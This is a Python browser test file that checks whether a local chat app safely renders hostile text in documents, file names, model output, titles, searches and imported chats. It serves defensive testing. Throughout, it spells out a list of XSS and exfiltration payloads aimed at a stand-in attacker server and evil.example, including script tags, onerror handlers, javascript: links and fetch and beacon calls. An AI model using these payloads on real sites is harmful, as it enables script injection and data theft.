"""Hostile text in every place where text is shown, in the real application: it loads nothing and runs nothing.

An attacker's server listens beside it: what it hears is what has leaked.
"""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest
from playwright.sync_api import expect

from localspec import texts
from localspec.chat.transfer import as_json
from localspec.stores.stored_turns import Citation, StoredConversation, StoredTurn
from tests.access.evil import Evil
from tests.running import RunningApp
from tests.ui.test_browser import LONG
from tests.ui.test_chat_part import ChatVisit
from tests.ui.watched import attacker, visit

__all__ = ["attacker", "visit"]

pytestmark = pytest.mark.browser


def pictures(attacker: Evil) -> list[str]:
    """Ways to have something fetched, or run, by whoever shows a text."""
    to = attacker.address
    return [
        f"![m]({to}/markdown)", f"[![m]({to}/linked)]({to}/link)", f"![r][ref]\n\n[ref]: {to}/reference",
        f"![own](/gradio_api/file={to}/own)", f'<img src="{to}/img" onerror="window.hit=1">',
        f'<img srcset="{to}/srcset 1x">', "<img src=x onerror=window.hit=2>", "<script>window.hit=3</script>",
        f'<script src="{to}/script"></script>', "<svg onload=window.hit=4><animate onbegin=window.hit=5></svg>",
        f'<svg><image href="{to}/svg"/><use href="{to}/use"/></svg>', f'<iframe src="{to}/frame"></iframe>',
        '<iframe srcdoc="<script>parent.hit=6</script>"></iframe>', f'<object data="{to}/object"></object>',
        f'<video poster="{to}/poster" src="{to}/video"></video>', f'<style>@import "{to}/style";</style>',
        f'<link rel="stylesheet" href="{to}/sheet">', f'<div style="background:url({to}/background)">x</div>',
        f'<form action="{to}/form"><button>go</button></form>', f'<base href="{to}/">',
        f'<meta http-equiv="refresh" content="0; url={to}/refresh">', "[run](javascript:window.hit=7)",
        "<a href='javascript:window.hit=8'>run</a>", f'<input type="image" src="{to}/input">',
        f"$\\includegraphics{{{to}/math}}$ $\\href{{javascript:window.hit=9}}{{x}}$",
        f"```html\n<img src={to}/fence>\n```", f"```mermaid\ngraph TD; A[<img src={to}/mermaid>]\n```",
        "{{constructor.constructor('window.hit=10')()}}",
        f'<details open ontoggle="window.hit=11"><summary>x</summary></details><audio src="{to}/audio">',
    ]  # fmt: skip


def assert_unharmed(visit: ChatVisit, attacker: Evil) -> None:
    """Nothing was loaded or run, nor even tried."""
    visit.page.wait_for_timeout(500)
    assert visit.page.evaluate("seen") == []
    assert visit.page.evaluate("window.hit") is None
    assert attacker.heard == []
    visit.assert_quiet()


def test_the_watch_sees_what_it_should_and_the_policy_stops_it(visit: ChatVisit, attacker: Evil) -> None:
    """Were there a way to bring markup into the page, nothing would be loaded by it, run, or sent."""
    visit.page.evaluate(
        """(text) => {
          const place = document.createElement("div");
          place.innerHTML = text;
          document.body.append(place);
          for (const old of place.querySelectorAll("script")) {
            const made = document.createElement("script");
            if (old.src) made.src = old.src; else made.textContent = old.textContent;
            document.body.append(made);
          }
        }""",
        # All but one: no policy keeps a page from being left.
        "\n".join(text for text in pictures(attacker) if text.startswith("<") and "http-equiv" not in text),
    )
    answers = visit.page.evaluate(
        """async (to) => {
          const tried = [];
          await fetch(to + "/fetch").catch(() => tried.push("fetch"));
          await fetch("http://evil.example/fetch").catch(() => tried.push("name"));
          await new Promise((settled) => {
            const source = new EventSource(to + "/events");
            source.onerror = () => { tried.push("events"); source.close(); settled(); };
            source.onopen = settled;
          });
          try { new WebSocket(to.replace("http", "ws") + "/socket"); } catch { tried.push("socket"); }
          navigator.sendBeacon(to + "/beacon", "x");
          for (const form of document.querySelectorAll("form")) form.submit();
          for (const link of document.querySelectorAll("a[href^=javascript]")) link.click();
          try { new Worker(to + "/worker"); } catch { tried.push("worker"); }
          return tried;
        }""",
        attacker.address,
    )
    visit.page.wait_for_timeout(1000)
    assert {"fetch", "name", "events"} <= set(answers)
    assert len(visit.page.evaluate("seen")) > 20, "the watch sees it"
    assert attacker.heard == []
    assert visit.page.evaluate("window.hit") is None
    assert visit.page.url.startswith(visit.own)


def test_what_documents_and_their_names_say_does_nothing(
    visit: ChatVisit, attacker: Evil, running: RunningApp, tmp_path: Path
) -> None:
    visit.pick_library("![x](x.png) & [a](b) $e$ `c`", running.home)
    with visit.settings_tab("documents"):
        visit.page.locator("#library input").fill('<img src=x onerror="window.hit=20">')
        visit.page.locator("#library input").press("Enter")
        expect(visit.page.locator(".notice")).to_contain_text("<img src=x onerror=")
    document = tmp_path / f"<img src=x onerror=window.hit=21> ![x](http:127.0.0.1:{attacker.port}) heron.md"
    document.write_text(
        "# The heron\n\nThe heron stands still.\n\n" + "\n\n".join(pictures(attacker)), encoding="utf-8"
    )
    broken = tmp_path / '<svg onload=window.hit=22> "broken".pdf'
    broken.write_bytes(b"%PDF-1.7\nnothing")
    visit.longest(30)
    visit.drop(document, broken)
    failed = visit.page.locator("#attachments .attachment[data-state=failed]")
    expect(failed).to_contain_text('<svg onload=window.hit=22> "broken".pdf')
    visit.force("The heron stands still.")
    answer = visit.ask("What does the heron do?")
    sources = answer.locator("button.citation")
    expect(sources.first).to_be_attached()
    for number in range(sources.count()):
        sources.nth(number).click()
        expect(visit.page.locator("dialog.passage[open] mark").first).to_be_visible()
        visit.page.keyboard.press("Escape")
    expect(visit.page.locator("#documents .document")).to_have_count(2)
    assert_unharmed(visit, attacker)


def test_what_the_model_says_does_nothing_while_it_is_written_nor_afterwards(visit: ChatVisit, attacker: Evil) -> None:
    visit.longest(2000)
    visit.choose("Plain")
    everything = pictures(attacker)
    for part in (everything[:10], everything[10:20], everything[20:]):
        visit.new_chat()
        text = "Here it is.\n\n" + "\n\n".join(part * 3)
        visit.force(text)
        before = visit.answers.count()
        visit.send("Write it.")
        growing = visit.answers.nth(before)
        # It is seen unfinished: a picture's mark without its end is what a renderer may take for something else.
        seen: set[int] = set()
        limit = time.monotonic() + 2 * LONG / 1000
        done = visit.page.locator("#panel section[data-state=done]:not([data-old])")
        while done.count() == 0 and time.monotonic() < limit:
            if growing.count():
                seen.add(len(visit.letters(growing)))
            visit.page.wait_for_timeout(30)
        visit.wait()
        visit.ends("done")
        assert len(seen) > 5
        shown = growing.inner_text()
        for line in ("![m](", "<img src=", "<script>", "<iframe", "<base href"):
            assert line not in text or line in shown, line
    visit.grammar("")
    assert_unharmed(visit, attacker)


def test_titles_questions_and_what_a_search_finds_do_nothing(visit: ChatVisit, attacker: Evil) -> None:
    visit.longest(5)
    for number, text in enumerate(pictures(attacker)):
        if number % 7 == 0:
            visit.new_chat()
            visit.ask(f"pelican {number} {text} " + " ".join(pictures(attacker)[number : number + 7]))
    visit.find("pelican")
    expect(visit.rows.locator("mark").first).to_have_text("pelican")
    visit.find(f"<img src={attacker.address}/search onerror=window.hit=30>")
    expect(visit.page.locator("#chats")).to_contain_text(re.compile("pelican|No chat"))
    visit.find("")
    visit.rows.first.get_by_label("More actions for").click()
    visit.rows.first.get_by_text(texts.RENAME, exact=True).click()
    visit.page.get_by_label(texts.NEW_TITLE).fill(f'"><img src={attacker.address}/title onerror=window.hit=31>')
    visit.page.get_by_label(texts.NEW_TITLE).press("Enter")
    expect(visit.rows.first).to_contain_text("<img src=")
    visit.page.reload()
    expect(visit.rows.first).to_contain_text("<img src=")
    assert_unharmed(visit, attacker)


def test_imported_chats_do_nothing(visit: ChatVisit, attacker: Evil, tmp_path: Path) -> None:
    attacks = pictures(attacker)
    mixed = " ".join(attacks)
    cited = Citation(1, f"{attacks[4]}.pdf", 3, mixed, f"{mixed}")
    turns = tuple(
        StoredTurn(
            f"{attack} {mixed}", attack, f"{attack}\n\n{mixed} [1]", method=attack, finish="length",
            files=(attack,), notices=[attack], problems=[attack], given=(cited,), citations=[cited],
        )
        for attack in attacks
    )  # fmt: skip
    chats = [StoredConversation(f"cormorant {attacks[4]} {mixed}"[:1000], attacks[0], turns)]
    file = tmp_path / "chats.json"
    file.write_text("".join(as_json(chats)), encoding="utf-8")
    visit.page.locator("#chats-column input[type=file]").set_input_files(file)
    expect(visit.page.locator(".notice")).to_contain_text("1 chat imported.")
    expect(visit.row("cormorant")).to_be_visible()
    visit.open("cormorant")
    expect(visit.answers).to_have_count(len(turns))
    opened = visit.page.locator("#chat button.citation")
    expect(opened).to_have_count(len(turns))
    opened.first.click()
    expect(visit.page.locator("dialog.passage[open]")).to_be_visible()
    visit.page.keyboard.press("Escape")
    visit.find("cormorant")
    assert_unharmed(visit, attacker)
